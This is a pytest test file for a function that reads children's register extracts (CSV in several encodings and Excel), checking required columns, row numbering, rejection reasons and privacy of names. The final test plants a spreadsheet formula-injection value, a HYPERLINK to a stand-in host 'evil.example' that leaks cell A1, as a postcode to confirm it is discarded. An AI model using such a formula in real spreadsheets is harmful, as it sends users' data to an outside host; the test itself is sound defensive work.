"""Reading extracts: CSV in the usual encodings and Excel; bad rows reported, never lost."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from openpyxl import Workbook

from missing_education.matching import REGISTER_COLUMNS, MatchingInputError, read_register

HEADER = ",".join(REGISTER_COLUMNS)


def write(tmp_path: Path, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / "extract.csv"
    path.write_bytes(text.encode(encoding))
    return path


def test_a_clean_csv_is_read_with_rows_numbered_as_a_spreadsheet_does(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        f"{HEADER}\nR1,Oliver,Smith,2014-05-17,M,A830000000001,1 Mill Lane,DE22 3AB,100001\n"
        "R2,Amelia,Jones,,,,,,\n",
    )
    extract = read_register(path)
    assert list(extract.records.columns) == list(REGISTER_COLUMNS)
    assert list(extract.records.index) == [2, 3]  # the header is row 1
    assert extract.records.loc[2, "forename"] == "Oliver"
    assert extract.records.loc[3, "date_of_birth"] == ""
    assert extract.rejections == [] and extract.extra_columns == []


def test_a_byte_order_mark_is_ignored(tmp_path: Path) -> None:
    path = write(tmp_path, f"\ufeff{HEADER}\nR1,Zoë,Brontë,,,,,,\n")
    assert read_register(path).records.loc[2, "forename"] == "Zoë"


def test_a_windows_1252_file_is_read(tmp_path: Path) -> None:
    path = write(tmp_path, f"{HEADER}\nR1,Zoë,O’Neill,,,,,,\n", encoding="cp1252")
    records = read_register(path).records
    assert (records.loc[2, "forename"], records.loc[2, "surname"]) == ("Zoë", "O’Neill")


def test_only_ref_forename_and_surname_are_required(tmp_path: Path) -> None:
    path = write(tmp_path, "Surname,REF,Forename,notes\nSmith,R1,Oliver,moved in May\n")
    extract = read_register(path)
    assert extract.records.loc[2, "postcode"] == ""
    assert extract.records.loc[2, "notes"] == "moved in May"
    assert extract.extra_columns == ["notes"]


@pytest.mark.parametrize("missing", ["ref", "forename", "surname"])
def test_a_missing_required_column_is_refused_by_name(tmp_path: Path, missing: str) -> None:
    columns = [c for c in ("ref", "forename", "surname") if c != missing]
    path = write(tmp_path, ",".join(columns) + "\n" + ",".join("x" for _ in columns) + "\n")
    with pytest.raises(MatchingInputError, match=repr(missing)):
        read_register(path)


def test_an_empty_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(MatchingInputError):
        read_register(write(tmp_path, ""))


def test_only_rows_without_ref_or_anything_to_match_on_are_rejected(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        f"{HEADER}\n,Oliver,Smith,,,,,,\nR2,,Smith,,,,,,\nR3,Oliver,,,,,,,\nR4,Amelia,Jones,,,,,,\n"
        "R5,,,,,,,DE4 3AG,\n",
    )
    extract = read_register(path)
    assert [(r.row, r.reason) for r in extract.rejections] == [
        (2, "ref is blank"),
        (6, "forename, surname, date_of_birth and upn are all blank: nothing to match on"),
    ]
    assert list(extract.records["ref"]) == ["R2", "R3", "R4"]


def test_rows_with_blank_fields_are_counted_as_scored_with_fields_missing(
    tmp_path: Path,
) -> None:
    path = write(
        tmp_path,
        f"{HEADER}\nR1,,Smith,2015-03-02,M,,,DE4 3AG,\nR2,Ava,Jones,unknown,,,,,\n"
        "R3,Ava,Jones,2015-03-02,,,,DE4 3AG,\n",
    )
    extract = read_register(path)
    assert list(extract.missing_fields()) == [1, 2, 0]
    assert extract.scored_with_missing() == {1: 1, 2: 1}


def test_control_characters_and_over_long_values_are_rejected(tmp_path: Path) -> None:
    long_name = "A" * 101
    path = write(
        tmp_path,
        f'{HEADER}\nR1,"Oli\x07ver",Smith,,,,,,\nR2,Amelia,{long_name},,,,,,\n'
        'R3,Ava,"Line\nbreak",,,,,,\n',
    )
    extract = read_register(path)
    assert [(r.row, r.reason) for r in extract.rejections] == [
        (2, "control character in forename"),
        (3, "surname is longer than 100 characters"),
        (4, "control character in surname"),
    ]


def test_reasons_never_repeat_the_childs_name(tmp_path: Path) -> None:
    path = write(tmp_path, f'{HEADER}\nR1,"Przybylska\x01",,,,,,,\n')
    (rejection,) = read_register(path).rejections
    assert "Przybylska" not in rejection.reason


def test_a_repeated_ref_rejects_the_later_row_naming_the_first_as_a_spreadsheet_does(
    tmp_path: Path,
) -> None:
    # The header is spreadsheet row 1: the two rows are rows 2 and 3.
    path = write(tmp_path, f"{HEADER}\nR1,Oliver,Smith,,,,,,\nR1,Amelia,Jones,,,,,,\n")
    extract = read_register(path)
    assert [(r.row, r.reason) for r in extract.rejections] == [(3, "ref repeats row 2")]


def test_a_row_with_too_many_values_is_rejected(tmp_path: Path) -> None:
    path = write(tmp_path, "ref,forename,surname\nR1,Oliver,Smith,extra\n")
    (rejection,) = read_register(path).rejections
    assert rejection.row == 2 and "4 values" in rejection.reason


def test_a_bad_date_of_birth_keeps_the_row(tmp_path: Path) -> None:
    path = write(tmp_path, f"{HEADER}\nR1,Oliver,Smith,31/02/2014,,,,,\nR2,Ava,Hall,unknown,,,,,\n")
    extract = read_register(path)
    assert extract.rejections == []
    assert list(extract.records["date_of_birth"]) == ["31/02/2014", "unknown"]


def test_blank_lines_are_skipped_but_counted(tmp_path: Path) -> None:
    path = write(tmp_path, f"{HEADER}\nR1,Oliver,Smith,,,,,,\n\nR3,Ava,Hall,,,,,,\n")
    assert list(read_register(path).records.index) == [2, 4]


def test_an_excel_workbook_is_read_with_dates_as_iso(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["ref", "forename", "surname", "date_of_birth", "school_urn", "year"])
    sheet.append(["R1", "Oliver", "Smith", dt.datetime(2014, 5, 17), 100001, 3.5])
    sheet.append(["R2", None, "Jones", None, None, None])
    path = tmp_path / "register.xlsx"
    workbook.save(path)

    extract = read_register(path)

    assert extract.records.loc[2, "date_of_birth"] == "2014-05-17"
    assert extract.records.loc[2, "school_urn"] == "100001"
    assert extract.records.loc[2, "year"] == "3.5"
    assert extract.rejections == []
    assert extract.missing_fields().loc[3] == 3  # forename, date of birth, postcode


def test_a_file_that_is_not_a_workbook_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "register.xlsx"
    path.write_text("ref,forename,surname\n")
    with pytest.raises(MatchingInputError):
        read_register(path)


def test_a_value_too_long_for_its_format_is_read_as_missing_and_the_row_kept(
    tmp_path: Path,
) -> None:
    formula = '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click here"")"'
    path = write(
        tmp_path,
        f"{HEADER}\nR1,Oliver,Smith,2014-05-17,Prefer not to say,A8300000000012345678901,,"
        f"{formula},\n",
    )
    extract = read_register(path)
    assert extract.rejections == []
    row = extract.records.loc[2]
    assert (row["sex"], row["upn"], row["postcode"]) == ("", "", "")
    assert extract.missing_fields().loc[2] == 1  # the postcode
